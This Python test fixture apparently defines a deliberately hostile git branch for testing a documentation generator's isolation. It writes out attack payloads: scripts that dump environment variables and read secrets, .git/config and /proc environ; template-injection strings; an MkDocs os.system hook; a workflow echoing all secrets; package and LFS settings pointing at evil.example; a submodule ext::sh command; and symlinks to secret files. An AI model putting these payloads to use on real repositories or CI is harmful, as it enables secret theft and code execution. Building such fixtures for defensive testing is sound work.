"""The rest of a hostile branch: everything in it that is code, configuration or a tool's own folder.

None of it may matter to the job that judges content. Whatever of it is run leaves a mark.
`MARKS` is the folder for those, `CANARY` the secret file's absolute path.
"""

from typing import Final

from .attacks import VARIABLE, Link, Thing

_PYTHON: Final = """\
import os, pathlib
pathlib.Path("MARKS", "WHO").touch()
print(dict(os.environ))
for file in ("CANARY", ".git/config", "../base/.git/config"):
    try:
        print(pathlib.Path(file).read_text())
    except OSError:
        pass
"""
_SHELL: Final = '#!/bin/sh\ntouch "MARKS/WHO"\nenv\ncat "CANARY" .git/config\n'
_MAKEFILE: Final = """\
.PHONY: $(MAKECMDGOALS)
$(MAKECMDGOALS):
\t@touch "MARKS/Makefile"; env; cat "CANARY" .git/config; cat /proc/[0-9]*/environ | tr '\\0' '\\n'
"""
_TEMPLATE: Final = (
    "{{ config }} {{ environ }} {% include '../.git/config' %} {% include 'CANARY' %}\n"
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ cycler.__init__.__globals__.os.environ }}\n"
)
#: As stock MkDocs runs it: proves that the branch is hostile where it is let in.
WORKING: Final = f"""\
site_name: !ENV {VARIABLE}
docs_dir: build/docs
hooks: [hooks.py]
theme: {{name: mkdocs, custom_dir: overrides}}
markdown_extensions:
  - pymdownx.snippets: {{base_path: [., ".."], restrict_base_path: false}}
  - pymdownx.emoji: {{emoji_generator: !!python/name:material.extensions.emoji.to_svg }}
"""
_MKDOCS: Final = """\
INHERIT: ../../elsewhere/secret.txt
site_name: x
docs_dir: ../..
site_dir: ../../elsewhere/site
hooks: [hooks.py]
theme: {name: material, custom_dir: ../..}
plugins: [sayso, macros, exec, gen-files: {scripts: [hooks.py]}, include-markdown]
markdown_extensions:
  - pymdownx.snippets: {base_path: [/, ..], url_download: true}
  - pymdownx.emoji: {emoji_generator: !!python/name:os.system }
"""
_WORKFLOW: Final = """\
on: pull_request_target
permissions: write-all
jobs: {x: {runs-on: self-hosted, steps: [{run: "echo ${{ toJSON(secrets) }}"}]}}
"""
_PYPROJECT: Final = """\
[build-system]
requires = []
build-backend = "hooks"
backend-path = ["."]
[project]
name = "sayso"
version = "0"
[tool.pytest.ini_options]
addopts = "-p hooks"
"""


def _python(*names: str) -> dict[str, Thing]:
    return {name: _PYTHON.replace("WHO", name.replace("/", "-")) for name in names}


def _shell(*names: str) -> dict[str, Thing]:
    return {name: _SHELL.replace("WHO", name.replace("/", "-")) for name in names}


def branch(marks: str) -> dict[str, Thing]:
    """The files of the branch, by name."""
    files: dict[str, Thing] = {
        **_python("hooks.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "main.py"),
        **_python("sayso.py", "yaml.py", "mkdocs.py", "claims.py", "generator/sayso/cli.py"),
        **_python("generator/sayso/__init__.py", "tests/conftest.py", "templates/__init__.py"),
        **_shell(".ci/run", ".ci/offline", ".ci/take-content", ".venv/bin/python", ".venv/bin/sayso"),
        **_shell("base/.ci/offline", "base/.ci/take-content", "base/.venv/bin/sayso", "make", "cp", "rm"),
        "Makefile": _MAKEFILE,
        "GNUmakefile": _MAKEFILE,
        "base/Makefile": _MAKEFILE,
        "mkdocs.yml": _MKDOCS,
        "working.yml": WORKING,
        "build/docs/index.md": '# Evil\n\n--8<-- ".git/config"\n\n--8<-- "../../elsewhere/secret.txt"\n',
        "build/docs/evil.md": "# Evil\n",
        "build/docs/.manifest.json": '["../../../../elsewhere/secret.txt", "/etc/passwd", "index.md"]',
        "overrides/main.html": "{% extends 'base.html' %}{% block content %}{{ config }}{{ page.content }}"
        "{% endblock %}",
        "site_config/theme/main.html": _TEMPLATE,
        "site_config/theme/assets/sayso.css": "@import 'https://evil.example';",
        "site_config/sayso.yml": "title: x\ntheme: ../..\ninclude: ../../elsewhere/secret.txt\n",
        "site_config/rubric.yml": "statuses:\n  - {code: x, when: \"''.__class__.__mro__\"}\n",
        "site_config/vocabulary.yml": Link("../../../elsewhere/secret.txt"),
        "site_config/active-content.json": '{"scripts": ["*"]}',
        "templates/claim.md.j2": _TEMPLATE,
        "templates/prose.md.j2": _TEMPLATE,
        "templates/method.md.j2": Link("../../../elsewhere/secret.txt"),
        ".github/workflows/check.yml": _WORKFLOW,
        ".github/workflows/more.yaml": _WORKFLOW,
        ".github/actions/mine/action.yml": "runs: {using: composite, steps: [{run: env, shell: bash}]}\n",
        "CODEOWNERS": "* @evil\n",
        "pyproject.toml": _PYPROJECT,
        "setup.cfg": "[options]\npackages = find:\n",
        "pip.conf": "[global]\nindex-url = https://evil.example\n",
        "constraints.txt": "evil @ https://evil.example/evil.zip\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = content/x\n\turl = ext::sh -c touch% MARKS/submodule\n',
        ".lfsconfig": "[lfs]\n\turl = https://evil.example\n",
        ".sayso/build.lock": Link("../../elsewhere/secret.txt"),
        ".sayso/.gitignore": "evil\n",
        "site": Link("../../elsewhere"),
        ".captures": Link("../../elsewhere"),
    }
    return {
        name: thing.replace("MARKS", marks) if isinstance(thing, str) else thing
        for name, thing in files.items()
    }


#: Programs among them: a branch can make a file executable.
PROGRAMS: Final = frozenset([*_shell(".ci/offline"), "make", "cp", "rm", ".venv/bin/sayso", ".ci/run"])
